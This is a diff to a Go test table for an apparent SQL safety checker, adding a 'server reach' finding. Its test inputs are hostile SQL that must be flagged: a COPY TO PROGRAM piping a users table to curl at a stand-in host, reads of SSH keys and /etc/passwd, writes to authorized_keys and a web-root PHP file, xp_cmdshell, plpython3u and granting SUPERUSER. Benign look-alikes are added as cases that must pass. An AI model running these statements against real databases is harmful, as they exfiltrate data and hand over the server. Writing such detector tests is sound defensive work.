@@ -9,6 +9,7 @@ const (
 	drop      = IDDrop
 	unbounded = IDUnboundedWrite
 	config    = IDRedisConfig
+	reach     = IDServerReach
 )
 
 // ids returns the ids of findings, in order.
@@ -60,6 +61,20 @@ var sqlTests = []struct {
 	{"WITH old AS (SELECT id FROM t WHERE x) DELETE FROM t", []string{unbounded}},
 	{"WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d WHERE id > 1", []string{unbounded}},
 	{"DELETE FROM a; DELETE FROM b WHERE id = 1; UPDATE c SET x = 1", []string{unbounded, unbounded}},
+	// Statements that reach the server's programs and files, or make a superuser.
+	{"COPY users TO PROGRAM 'curl -d @- https://x.example'", []string{reach}},
+	{"copy t from program 'id'", []string{reach}},
+	{"COPY users TO '/tmp/users.csv'", nil},
+	{"SELECT pg_read_file('/root/.ssh/id_rsa')", []string{reach}},
+	{"SELECT lo_export(123, '/root/.ssh/authorized_keys')", []string{reach}},
+	{"SELECT * FROM users INTO OUTFILE '/var/www/x.php'", []string{reach}},
+	{"SELECT LOAD_FILE('/etc/passwd')", []string{reach}},
+	{"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t", []string{reach}},
+	{"EXEC xp_cmdshell 'whoami'", []string{reach}},
+	{"CREATE EXTENSION plpython3u", []string{reach}},
+	{"CREATE FUNCTION f() RETURNS void AS $$ import os $$ LANGUAGE plpython3u", []string{reach}},
+	{"ALTER ROLE app SUPERUSER", []string{reach}},
+	{"SELECT load_extension('/tmp/x.so')", []string{reach}},
 	// A WHERE that holds for every row limits nothing.
 	{"DELETE FROM users WHERE 1=1", []string{unbounded}},
 	{"delete from users where true", []string{unbounded}},
@@ -103,6 +118,11 @@ var sqlTests = []struct {
 	{"CREATE TABLE drop_log (id serial, what text)", nil},
 	{"CREATE TABLE t (id int REFERENCES u ON DELETE CASCADE ON UPDATE SET NULL)", nil},
 	{"DELETE FROM users WHERE id = 1", nil},
+	{"COPY users TO STDOUT WITH CSV HEADER", nil},
+	{"COPY users FROM STDIN", nil},
+	{"SELECT 'pg_read_file' AS name", nil},
+	{"CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql", nil},
+	{"CREATE ROLE reader NOSUPERUSER LOGIN", nil},
 	{"DELETE FROM users WHERE 1=1 AND id = 7", nil},
 	{"DELETE FROM users WHERE id = 1 OR id = 2", nil},
 	{"DELETE FROM users WHERE NULL = NULL", nil},
